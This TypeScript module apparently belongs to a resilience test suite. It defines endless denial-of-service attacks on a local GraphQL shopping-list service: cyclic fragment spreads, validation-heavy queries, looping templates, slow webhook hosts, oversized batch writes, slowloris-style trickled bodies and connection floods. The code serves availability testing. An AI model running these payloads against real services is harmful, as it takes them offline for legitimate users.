// What one caller did to silence everybody else. Each goes on until the process that runs it is ended.
import { connect } from 'node:net';
import { asShopper, asStore, createCaller } from './service.ts';
import type { Target } from './service.ts';

/** An attack by its name; it never returns. */
export type Attack = (target: Target) => Promise<unknown>;

const ATTACKER = '127.0.0.66';

const times = (count: number, make: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => make(n)).join(' ');

/** The same over and over on this many connections. */
const forever = (connections: number, send: (n: number) => Promise<unknown>): Promise<unknown> =>
  Promise.all(
    Array.from({ length: connections }, async (_, connection) => {
      for (let n = connection; ; n += connections) await send(n).catch(() => undefined);
    }),
  );

let unique = 0;

/** A document that spreads fragments 210 times, in circles; no two are the same. */
function spreads(): string {
  const id = (unique += 1);
  const fragments = times(
    70,
    (n) => `fragment F${id}x${n} on Query { ...F${id}x${(n + 1) % 70} ...F${id}x${(n + 7) % 70} }`,
  );
  return `{ __typename ${times(70, (n) => `...F${id}x${n}`)} } ${fragments}`;
}

/** Fields that are to be merged, and differ. */
function overlaps(): string {
  const id = (unique += 1);
  return `{ ${times(150, (n) => `a: __type(name: "T${id}x${n}") { name fields { name } }`)} }`;
}

/** Names that nobody knows, each of which is held against all names that there are. */
const unknown = (): string => `{ ${times(180, (n) => `lisst${(unique += 1)}x${n}`)} }`;

const ids = (count: number): string => JSON.stringify(Array.from({ length: count }, (_, n) => `${n}`));

const lookups = (guest: number): Attack => {
  const query = `{ ${times(20, (n) => `a${n}: isInLists(epis: ${'$e'}) { epi }`)} }`;
  const document = `query ($e: [VariantId!]!) ${query}`;
  return ({ port, guests }) => {
    const { graphql } = createCaller(port, ATTACKER);
    return forever(12, () =>
      graphql(document, { e: JSON.parse(ids(500)) as string[] }, asShopper(guests[guest]!)),
    );
  };
};

const documents =
  (make: () => string, headers: (target: Target) => Record<string, string> = () => ({})): Attack =>
  (target) => {
    const { graphql } = createCaller(target.port, ATTACKER);
    return forever(12, () => graphql(make(), {}, headers(target)));
  };

/** Sends one byte of a body a second, on these connections. */
const trickle =
  (head: string, addresses: number, connections: number): Attack =>
  async ({ port }) => {
    for (let n = 0; n < connections; n += 1) {
      const socket = connect({ port, host: '127.0.0.1', localAddress: `127.0.0.${70 + (n % addresses)}` });
      socket.on('error', () => undefined).write(`POST /graphql HTTP/1.1\r\nhost: x\r\n${head}\r\n\r\n`);
      setInterval(() => socket.write(head.includes('chunked') ? '1\r\n{\r\n' : ' '), 1_000);
    }
    await new Promise(() => undefined);
  };

const LOOP = '{% for i in (1..100000) %}{% for j in (1..100000) %}x{% endfor %}{% endfor %}';

export const ATTACKS: Record<string, Attack> = {
  '1 fragment spreads, no credentials': documents(spreads),
  '1 fragment spreads, a shopper': documents(spreads, ({ guests }) => asShopper(guests[0]!)),
  '1 overlapping fields, no credentials': documents(overlaps),
  '1 unknown names, no credentials': documents(unknown),
  '2 negative pages': ({ port, guests }) => {
    const { graphql } = createCaller(port, ATTACKER);
    const heavy = times(
      15,
      (n) => `a${n}: lists(first: 100) { edges { node { lid listcontents(limit: 100) { epi } } } }`,
    );
    return forever(4, () =>
      graphql(
        `{ x: lists(first: -2147483648) { edges { node { lid } } } ${heavy} }`,
        {},
        asShopper(guests[0]!),
      ),
    );
  },
  '3 a store named by strangers': ({ port, victim }) => {
    const { graphql } = createCaller(port, ATTACKER);
    const query = `{ ${times(15, (n) => `a${n}: allLists { lid listcontents(limit: 100) { epi } }`)} }`;
    return forever(12, () => graphql(query, {}, { 'x-pid': victim.pid }));
  },
  '4 templates that loop': ({ port, attacker }) => {
    const { graphql } = createCaller(port, ATTACKER);
    const query = 'query ($s: String!) { previewTopic(topic: "backinstock", subject: $s) { subject } }';
    return forever(60, (n) => graphql(query, { s: `${LOOP}${n}` }, asStore(attacker)));
  },
  '5 names that are slow to look up': ({ port, attacker }) => {
    const { graphql } = createCaller(port, ATTACKER);
    const query = 'mutation ($u: String!) { saveWebhook(url: $u, events: ["list.item.added"]) { secret } }';
    return forever(60, (n) => graphql(query, { u: `https://slow${n}.example.com/` }, asStore(attacker)));
  },
  '6 look-ups of 10,000 ids': lookups(0),
  '6 writes of 5,000 items': ({ port, guests, list }) => {
    const { graphql } = createCaller(port, ATTACKER);
    const query = `mutation ($l: ID!, $a: [ItemInput!]) { ${times(10, (n) => `a${n}: updateListContents(lid: $l, a: $a) { cnt }`)} }`;
    const a = Array.from({ length: 500 }, (_, n) => ({ epi: String(n), empi: '1', du: '/p' }));
    return forever(40, () => graphql(query, { l: list, a }, asShopper(guests[0]!)));
  },
  '7 twelve slow chunked bodies': trickle(
    'transfer-encoding: chunked\r\ncontent-type: application/json',
    3,
    12,
  ),
  '7 a thousand slow bodies': trickle('content-length: 1900000\r\ncontent-type: application/json', 1, 1_000),
  '8 mutations in a fragment': ({ port, guests, list }) => {
    const { graphql } = createCaller(port, ATTACKER);
    const fields = times(20, (n) => `a${n}: updateList(lid: $l, input: { lnote: "x${n}" }) { lid }`);
    const query = `mutation ($l: ID!) { ...F } fragment F on Mutation { ${fields} }`;
    return forever(20, () => graphql(query, { l: list }, asShopper(guests[0]!)));
  },
  '8 all streams for one store': ({ port, attacker, guests }) => {
    const { send } = createCaller(port, ATTACKER);
    const open = (n: number) =>
      send({
        path: '/graphql/stream',
        body: JSON.stringify({ query: 'subscription { lists { rev } }' }),
        headers: {
          'content-type': 'application/json',
          accept: 'text/event-stream',
          ...asStore(attacker),
          'x-regid': guests[n % guests.length]!.regid,
        },
      });
    return forever(400, open);
  },
  'a crowd of 200 connections of one shopper': ({ port, guests }) => {
    const { form } = createCaller(port, ATTACKER);
    const path = `/api/v3/lists/fetch-lists?pid=${encodeURIComponent(guests[0]!.pid)}`;
    return forever(200, () => form(path, guests[0]!));
  },
  'a crowd of 200 connections of one key': ({ port, attacker }) => {
    const { send } = createCaller(port, ATTACKER);
    return forever(200, () => send({ path: '/storeadmin/me', method: 'GET', headers: asStore(attacker) }));
  },
};
